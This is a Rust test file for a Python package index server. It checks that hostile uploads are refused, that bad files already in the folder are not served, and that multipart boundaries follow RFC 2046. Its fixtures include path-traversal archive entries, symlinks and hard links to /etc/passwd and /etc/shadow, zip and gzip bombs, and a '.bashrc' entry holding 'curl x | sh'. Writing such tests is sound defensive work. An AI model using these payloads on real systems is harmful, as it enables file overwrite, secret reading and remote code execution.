//! Uploads are checked as an installer would check them: archives pip or
//! pypa/installer would refuse, and bombs, get a one-line 400 and leave nothing in
//! the folder; a folder that already holds such files does not serve them.

use crate::support::crafted::{self, TarEntry, ZipEntry};
use crate::support::dists::WheelSpec;
use crate::support::files::listing;
use crate::support::http::Reply;
use crate::support::process::{command, run};
use crate::support::python::tool;
use crate::support::servers::Server;
use crate::support::tmp::{TempDir, mkdir};

const WHEEL: &str = "delta-1.0-py3-none-any.whl";
const SDIST: &str = "delta-1.0.tar.gz";

/// Each upload is refused with a one-line reason holding `expected`; the server
/// keeps serving and the folder stays empty.
fn assert_refused(server: &Server, dir: &std::path::Path, cases: &[(&str, &str, Vec<u8>, &str)]) {
    for (what, file, body, expected) in cases {
        let reply: Reply = server.request("PUT", &format!("/p/{file}"), &[], body);
        assert_eq!(reply.status, 400, "{what}: {}", reply.text());
        let text = reply.text();
        assert_eq!(text.trim().lines().count(), 1, "{what}: one line: {text}");
        assert!(
            text.contains(expected),
            "{what}: expected `{expected}` in: {text}"
        );
        assert!(
            listing(dir).is_empty(),
            "{what}: nothing stored: {:?}",
            listing(dir)
        );
    }
}

#[test]
fn wheels_an_installer_would_refuse_are_refused() {
    let tmp = TempDir::new("unsafe-wheels");
    let wheels = tmp.path().join("wheels");
    let server = Server::start(&wheels, &[]);
    let with = |extra: &[ZipEntry<'_>]| crafted::wheel("delta", "1.0", extra);
    let good = with(&[]);
    let without = |file: &str| {
        let info = crafted::dist_info("delta", "1.0", &[file]);
        let entries: Vec<ZipEntry<'_>> = info.iter().map(|(n, d)| ZipEntry::File(n, d)).collect();
        crafted::zip(&entries)
    };
    let cases = [
        (
            "climbs out",
            WHEEL,
            with(&[ZipEntry::File("../escape.py", b"")]),
            "goes up a folder",
        ),
        (
            "climbs out deep",
            WHEEL,
            with(&[ZipEntry::File("delta/../../x.py", b"")]),
            "goes up a folder",
        ),
        (
            "absolute",
            WHEEL,
            with(&[ZipEntry::File("/etc/evil.py", b"")]),
            "absolute",
        ),
        (
            "backslash",
            WHEEL,
            with(&[ZipEntry::File("delta\\..\\..\\x.py", b"")]),
            "backslash",
        ),
        (
            "drive letter",
            WHEEL,
            with(&[ZipEntry::File("C:/evil.py", b"")]),
            "drive",
        ),
        (
            "symlink",
            WHEEL,
            with(&[ZipEntry::Symlink("delta/passwd", "/etc/passwd")]),
            "link",
        ),
        (
            "bytes before",
            WHEEL,
            [b"#!/bin/sh\nexit 0\n".as_slice(), &good].concat(),
            "before",
        ),
        (
            "bytes after",
            WHEEL,
            [good.as_slice(), b"trailing"].concat(),
            "after",
        ),
        ("no RECORD", WHEEL, without("RECORD"), "RECORD"),
        ("no WHEEL", WHEEL, without("WHEEL"), "WHEEL"),
        ("no METADATA", WHEEL, without("METADATA"), "METADATA"),
    ];
    assert_refused(&server, &wheels, &cases);
    // The same wheel without the hostile entry is accepted.
    let reply = server.request("PUT", &format!("/p/{WHEEL}"), &[], &good);
    assert_eq!(reply.status, 201, "{}", reply.text());
}

#[test]
fn twine_hears_why_an_unsafe_wheel_is_refused() {
    let tmp = TempDir::new("unsafe-twine");
    let wheels = tmp.path().join("wheels");
    let dist = mkdir(tmp.path().join("dist"));
    let server = Server::start(&wheels, &[]);
    let wheel = dist.join(WHEEL);
    let hostile = crafted::wheel(
        "delta",
        "1.0",
        &[ZipEntry::File("../../.bashrc", b"curl x | sh\n")],
    );
    std::fs::write(&wheel, hostile).unwrap();
    let out = run(command(tool("twine"))
        .args([
            "upload",
            "--non-interactive",
            "--disable-progress-bar",
            "--repository-url",
        ])
        .arg(format!("{}/", server.url))
        .args(["-u", "any", "-p", "any"])
        .arg(&wheel)
        .env("HOME", tmp.path()))
    .failure();
    assert!(
        out.stderr.contains("400") || out.stdout.contains("400"),
        "{}",
        out.stderr
    );
    assert!(listing(&wheels).is_empty());
    let log = server.log_with("\"POST /\" 400");
    assert!(log.contains("\"POST /\" 400"), "{log}");
}

#[test]
fn sdists_an_installer_would_refuse_are_refused() {
    let tmp = TempDir::new("unsafe-sdists");
    let dir = tmp.path().join("dists");
    let server = Server::start(&dir, &[]);
    let info = crafted::pkg_info("delta", "1.0");
    let with = |extra: &[TarEntry<'_>]| {
        let mut entries = vec![
            TarEntry::Dir("delta-1.0/"),
            TarEntry::File("delta-1.0/PKG-INFO", &info),
        ];
        entries.extend(extra.iter().map(|e| match e {
            TarEntry::Dir(n) => TarEntry::Dir(n),
            TarEntry::File(n, d) => TarEntry::File(n, d),
            TarEntry::Symlink(n, t) => TarEntry::Symlink(n, t),
            TarEntry::HardLink(n, t) => TarEntry::HardLink(n, t),
        }));
        crafted::tar_gz(&entries)
    };
    let cases = [
        (
            "climbs out",
            SDIST,
            with(&[TarEntry::File("delta-1.0/../../x", b"")]),
            "goes up a folder",
        ),
        (
            "absolute",
            SDIST,
            with(&[TarEntry::File("/tmp/x", b"")]),
            "absolute",
        ),
        (
            "link out",
            SDIST,
            with(&[TarEntry::Symlink("delta-1.0/p", "/etc/passwd")]),
            "/etc/passwd",
        ),
        (
            "link up",
            SDIST,
            with(&[TarEntry::Symlink("delta-1.0/p", "../../x")]),
            "outside the project",
        ),
        (
            "hard link out",
            SDIST,
            with(&[TarEntry::HardLink("delta-1.0/h", "/etc/shadow")]),
            "hard link",
        ),
        (
            "second folder",
            SDIST,
            with(&[TarEntry::File("other-1.0/x", b"")]),
            "one top-level folder",
        ),
    ];
    assert_refused(&server, &dir, &cases);
    // A link that stays inside the project is what the client unpacks, so it is
    // accepted: one rule for both.
    let inside = with(&[
        TarEntry::File("delta-1.0/README", b"hi"),
        TarEntry::Symlink("delta-1.0/README.md", "README"),
    ]);
    let reply = server.request("PUT", &format!("/p/{SDIST}"), &[], &inside);
    assert_eq!(reply.status, 201, "{}", reply.text());
}

#[test]
fn a_zip_entry_bomb_is_refused_on_its_central_directory() {
    let tmp = TempDir::new("entry-bomb");
    let wheels = tmp.path().join("wheels");
    let server = Server::start(&wheels, &[]);
    // Above the limit of 100 000 entries; stored and empty, so 10 MB.
    let bomb = crafted::wheel_with_files("delta", "1.0", 100_001);
    let before = server.peak_memory_kib();
    let reply = server.request("PUT", &format!("/p/{WHEEL}"), &[], &bomb);
    assert_eq!(reply.status, 400, "{}", reply.text());
    assert!(reply.text().contains("100000 entries"), "{}", reply.text());
    assert!(listing(&wheels).is_empty());
    // Refused from the count in the end record: no entry was read into memory.
    let grew = server.peak_memory_kib().saturating_sub(before);
    assert!(
        grew < 16 * 1024,
        "the server's peak memory grew by {grew} KiB"
    );
}

#[test]
fn a_gzip_bomb_sdist_is_refused_without_unpacking_it() {
    let tmp = TempDir::new("gzip-bomb");
    let dir = tmp.path().join("dists");
    let server = Server::start(&dir, &[]);
    // 4.1 GiB of zeros (more than an sdist may unpack to) in 4 MB, then PKG-INFO.
    let bomb = crafted::sdist_bomb("delta-1.0", &crafted::pkg_info("delta", "1.0"), 4200);
    assert!(bomb.len() < 8 << 20, "{}", bomb.len());
    let reply = server.request("PUT", &format!("/p/{SDIST}"), &[], &bomb);
    assert_eq!(reply.status, 400, "{}", reply.text());
    assert!(
        reply.text().contains("unpacks to more than"),
        "{}",
        reply.text()
    );
    assert!(listing(&dir).is_empty());
}

#[test]
fn files_in_the_folder_that_fail_the_checks_are_not_served() {
    let tmp = TempDir::new("unsafe-at-start");
    let dir = mkdir(tmp.path().join("dists"));
    let hostile = crafted::wheel("delta", "1.0", &[ZipEntry::File("../escape.py", b"")]);
    std::fs::write(dir.join(WHEEL), hostile).unwrap();
    WheelSpec::new("delta", "2.0").build(&dir);
    let server = Server::start(&dir, &[]);
    let download = server.get(&format!("/p/{WHEEL}"));
    assert_eq!(download.status, 404, "{}", download.text());
    assert!(
        download.text().contains("goes up a folder"),
        "{}",
        download.text()
    );
    assert_eq!(server.get(&format!("/p/{WHEEL}.metadata")).status, 404);
    let page = server.get("/simple/delta/").text();
    assert!(page.contains("delta-2.0-py3-none-any.whl"), "{page}");
    assert!(!page.contains(WHEEL), "{page}");
    // Said once in the log, with the reason.
    let log = server.log_with("goes up a folder");
    assert_eq!(log.matches("goes up a folder").count(), 1, "{log}");
    // Nothing is deleted: the folder is the operator's.
    assert!(dir.join(WHEEL).exists());
}

#[test]
fn multipart_boundaries_follow_rfc_2046() {
    let tmp = TempDir::new("boundary");
    let wheels = tmp.path().join("wheels");
    let server = Server::start(&wheels, &[]);
    let dist = mkdir(tmp.path().join("dist"));
    let good = std::fs::read(WheelSpec::new("delta", "1.0").build(&dist)).unwrap();
    let form = |boundary: &str| {
        let mut body = format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"content\"; filename=\"{WHEEL}\"\r\n\r\n"
        )
        .into_bytes();
        body.extend_from_slice(&good);
        body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
        body
    };
    for boundary in [
        "b".repeat(71),
        "c".repeat(201),
        "a b ".into(),
        "tab\there".into(),
    ] {
        let content_type = format!("multipart/form-data; boundary=\"{boundary}\"");
        let reply = server.request(
            "PUT",
            &format!("/p/{WHEEL}"),
            &[("Content-Type", &content_type)],
            &form(&boundary),
        );
        assert_eq!(reply.status, 400, "{}: {}", boundary.len(), reply.text());
        assert!(reply.text().contains("boundary"), "{}", reply.text());
        assert!(listing(&wheels).is_empty());
    }
    let longest = "d".repeat(70);
    let reply = server.request(
        "PUT",
        &format!("/p/{WHEEL}"),
        &[(
            "Content-Type",
            &format!("multipart/form-data; boundary={longest}"),
        )],
        &form(&longest),
    );
    assert_eq!(reply.status, 201, "{}", reply.text());
}
